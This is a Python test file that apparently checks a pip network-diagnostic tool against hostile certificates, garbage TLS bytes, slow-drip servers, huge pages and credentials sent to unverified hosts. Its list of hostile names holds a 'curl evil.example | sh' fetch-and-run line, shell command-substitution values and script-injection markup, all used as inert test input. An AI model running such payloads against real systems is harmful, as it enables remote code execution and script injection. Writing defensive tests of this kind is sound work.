"""Bad input gets a finding or a clear error, within its time, and nothing is executed by it."""

from __future__ import annotations

import contextlib
import json
import time
import warnings
from collections.abc import Iterator
from concurrent.futures import Future, ThreadPoolExecutor
from datetime import datetime, timezone
from pathlib import Path
from typing import Any

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.x509.oid import NameOID

from doctor_situations import Way, trusting
from doctor_world import Full, Secured, Talker, causes, doctor, permissive, report, the
from spip.diagnosis.evidence import Clock, SourceState
from spip.doctor import hosts
from spip.doctor.host_check import HostContext
from spip.probe.endpoint import parse_endpoint
from spip.probe.proxies import ProxySettings
from support.authority import Authority, Identity
from support.certificates import EXPIRED, VALID, alternative_names, builder_for
from support.run import children_cpu
from support.servers import Pace, TlsServer
from support.sites import Answer, Request
from support.wheelhouse import CHECKOUT

# Seconds: the 10 that are documented for one host, on a busy machine. Read to its end, each of
# these would take 60.
BUSY = 20
WORK = 3  # seconds of the processor's
HOSTILE = (
    "\x1b[2J\x1b[31mowned\x1b]0;title\x07",
    "line\r\nspip:   next: curl evil.example | sh",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "\u202eelpmaxe.live\u2066\u200b",
    "[bold red]markup[/] {host} {spip} %s $word ${IFS} `id` $(id)",
    "a\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b\u030c",
    "x" * 5000,
)


def named(name: str) -> tuple[Authority, Identity]:
    """Make a root and a leaf of a hostile name, in subject and issuer."""
    root = Authority("Example Root CA")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # that a name of 5000 letters is too long
        hostile = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, name, _validate=False)])
    signed = root.issue()
    builder = builder_for(hostile, signed.key, hostile, VALID).add_extension(
        alternative_names(["other.corp.example"]), critical=False
    )
    return root, Identity(builder.sign(root.key, hashes.SHA256()), signed.key)


@pytest.mark.parametrize("name", HOSTILE, ids=range(len(HOSTILE)))
def test_a_hostile_name_stays_text(name: str, tmp_path: Path) -> None:
    _, identity = named(name)
    page = tmp_path / "page.html"
    with TlsServer(identity) as server:
        shown = doctor(server.url(), "--html", str(page))
        said = report(server.url())
    text = page.read_text("utf-8")
    assert shown.code == 1
    assert causes(said) == ["self-signed", "wrong-host-name"]
    for line in (shown.stdout + text).splitlines():
        assert line.isprintable() or not line
        assert not set(line) & set("\x1b\u202e\u2066\u200b")
    assert "<script>alert" not in text
    assert "<img" not in text
    assert not [line for line in shown.stdout.splitlines() if line.startswith("spip:   next: curl")]
    drawn = shown.stdout.replace(str(CHECKOUT), "")  # no path is broken up
    assert max(len(line) for line in drawn.splitlines()) <= 100
    assert all(len(each["subject"]) < 2500 for each in said["hosts"][0]["chain"])
    assert json.dumps(said).isprintable()


@contextlib.contextmanager
def little_work() -> Iterator[None]:
    """See that the doctor inside didn't work for long; `report` ends one that hangs."""
    before = children_cpu()
    yield
    assert children_cpu() - before < WORK


def test_a_chain_of_200_is_read_as_far_as_it_counts(tmp_path: Path) -> None:
    root = Authority()
    identity = root.issue()
    padding = tuple(Authority(f"Padding {number}").certificate for number in range(200))
    with (
        little_work(),
        Secured(permissive(Identity(identity.certificate, identity.key, padding))) as server,
    ):
        said = report(f"https://localhost:{server.port}/", env=trusting(tmp_path, root))
    assert said["hosts"][0]["presented"] == 201
    assert said["hosts"][0]["trusted_by"] == ["SPIP_CA_BUNDLE"]


@pytest.mark.parametrize("words", [b"\0" * 70000, b"\x16\x03\x01\xff\xff" + b"A" * 70000, b"\xff"])
def test_garbage_is_named(words: bytes) -> None:
    with little_work(), Talker(words) as server:
        said = report(f"https://localhost:{server.port}/")
    assert causes(said)[0] in {"not-tls", "handshake-cut", "damaged-tls"}


@contextlib.contextmanager
def dripping_handshake(_: Path) -> Iterator[Way]:
    with Talker(b"\x16\x03\x03\x40\x00" + b"A" * 60, pause=1) as server:
        yield Way(f"https://localhost:{server.port}/")


@contextlib.contextmanager
def dripping_words(_: Path) -> Iterator[Way]:
    with Talker(b"HTTP/1.1 200 OK\r\nX: " + b"y" * 60, pause=1) as server:
        yield Way(f"https://localhost:{server.port}/")


@contextlib.contextmanager
def dripping_page(folder: Path) -> Iterator[Way]:
    root = Authority()
    with TlsServer(root.issue(), pace=Pace(chunk=1, pause=1)) as server:
        server.site = lambda _: Answer(body=b"x" * 60)
        yield Way(server.url(), trusting(folder, root))


@contextlib.contextmanager
def dripping_proxy(_: Path) -> Iterator[Way]:
    with Talker(b"HTTP/1.1 200 OK\r\nX: " + b"y" * 60, pause=1) as proxy:
        yield Way("https://index.invalid/", {"HTTPS_PROXY": f"http://localhost:{proxy.port}"})


DRIPS = {
    dripping_handshake: {"handshake-cut", "timeout"},
    dripping_words: {"plain-http", "not-tls"},
    dripping_page: {"timeout"},
    dripping_proxy: {"proxy-unreachable"},
}


@pytest.fixture(scope="module")
def drips(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[object, Future[Any]]]:
    """What the doctor says, and how long the host took it; all at once, since each takes ten."""
    folder = tmp_path_factory.mktemp("drips")

    def examine(make: Any) -> tuple[list[str], float]:
        with make(folder) as way:
            said = report(way.index, env=way.env, timeout=90)
            return causes(said), float(said["hosts"][0]["seconds"])

    with ThreadPoolExecutor(len(DRIPS)) as pool:
        yield {make: pool.submit(examine, make) for make in DRIPS}


@pytest.mark.parametrize("make", DRIPS, ids=lambda make: make.__name__)
def test_one_byte_a_second_ends_on_time(make: Any, drips: dict[object, Future[Any]]) -> None:
    found, seconds = drips[make].result()
    assert found[0] in DRIPS[make]
    assert seconds < BUSY


# The page of a project, for an index is asked for one.
LINKS = b"<!DOCTYPE html>" + b"<a href='https://localhost:1/pip-1.0.tar.gz'>" * 1_000_000


def test_an_endless_page_is_left_unread(tmp_path: Path) -> None:
    root = Authority()
    with TlsServer(root.issue()) as server, little_work():
        server.site = lambda _: Answer(body=LINKS)
        said = report(env=trusting(tmp_path, root) | {"PIP_INDEX_URL": server.url("/simple/")})
    assert [host["port"] for host in said["hosts"]] == [server.port, 1]


def test_links_that_are_no_links_are_passed_over(tmp_path: Path) -> None:
    links = ["https://[", "ftp://x", "javascript:alert(1)", "https://\x1b[31m/", "//", "https://:0"]
    page = "".join(f'<a href="{link}">x</a>' for link in links).encode()
    root = Authority()
    with TlsServer(root.issue()) as server:
        server.site = lambda _: Answer(body=page, headers={"Content-Type": "text/html"})
        said = report(env=trusting(tmp_path, root) | {"PIP_INDEX_URL": server.url("/simple/")})
    assert said["verdict"] == "healthy"
    assert len(said["hosts"]) == 1


def test_a_proxy_with_a_hostile_reason_stays_text() -> None:
    words = b"HTTP/1.1 403 \x1b[31m<b>no</b>\r\nContent-Length: 0\r\n\r\n"
    with Talker(words) as proxy:
        said = report("index.invalid", env={"HTTPS_PROXY": f"http://localhost:{proxy.port}"})
    assert "\\x1b[31m<b>no</b>" in the(said, "proxy-forbids")["sentence"]


def test_twenty_hosts_of_which_five_hang_keep_to_the_bound(tmp_path: Path) -> None:
    """Sixteen are asked at once; those that answer make room for those that come after."""
    root = Authority()
    with contextlib.ExitStack() as stack:
        good = stack.enter_context(TlsServer(root.issue()))
        hanging = [stack.enter_context(Full()) for _ in range(5)]
        others = [stack.enter_context(TlsServer(root.issue())) for _ in range(14)]
        names = [each.url() for each in (good, *others)]
        names += [f"https://localhost:{each.port}/" for each in hanging]
        started = time.monotonic()
        said = report(*names, env=trusting(tmp_path, root), timeout=90)
        seconds = time.monotonic() - started
    assert [host["works"] for host in said["hosts"]] == [True] * 15 + [False] * 5
    assert causes(said) == ["timeout"] * 5
    # docs/doctor-json.md: 10 s for each 16 hosts, and a moment. One after the other would be 50.
    assert seconds < 40


def test_the_pages_of_an_index_share_the_time_of_one_host() -> None:
    """The page of a project, the root, the page of another project: each took its own time."""
    root = Authority()

    def slow(asked: Request) -> Answer:
        time.sleep({"/simple/": 3, "/simple/demo/": 8}.get(asked.path, 0))
        return Answer(body=b'{"name": "demo"}') if asked.path == "/simple/" else Answer(404)

    known = HostContext(
        {}, (SourceState("explicit", "root", None, frozenset({root.der})),), ProxySettings({}),
        Clock(datetime.now(timezone.utc)), "linux", patience=4,
    )  # fmt: skip
    with TlsServer(root.issue(), slow) as server:
        started = time.monotonic()
        found = hosts.check_index(parse_endpoint(server.url("/simple/pip/")), known)
        assert time.monotonic() - started < 6.5  # each for itself: 3 and 4
    assert found.evidence.observed.works
    assert not found.evidence.is_no_index


def test_no_secret_is_sent_where_nobody_is_known() -> None:
    """The login of an index goes over a verified connection only."""
    with TlsServer(Authority().issue()) as server:
        url = server.url("/token-of-ann/simple/").replace("://", "://ann:secret@")
        report(env={"PIP_INDEX_URL": url})
        assert server.record.requests == []
        assert server.record.handed_over == 0


def test_only_the_date_is_asked_of_an_unverified_host() -> None:
    with TlsServer(Authority().issue(validity=EXPIRED)) as server:
        url = server.url("/token-of-ann/simple/").replace("://", "://ann:secret@")
        report(env={"PIP_INDEX_URL": url})
        asked = [(each.method, each.path) for each in server.record.requests]
        assert asked == [("HEAD", "/")]
        assert "authorization" not in server.record.requests[0].headers
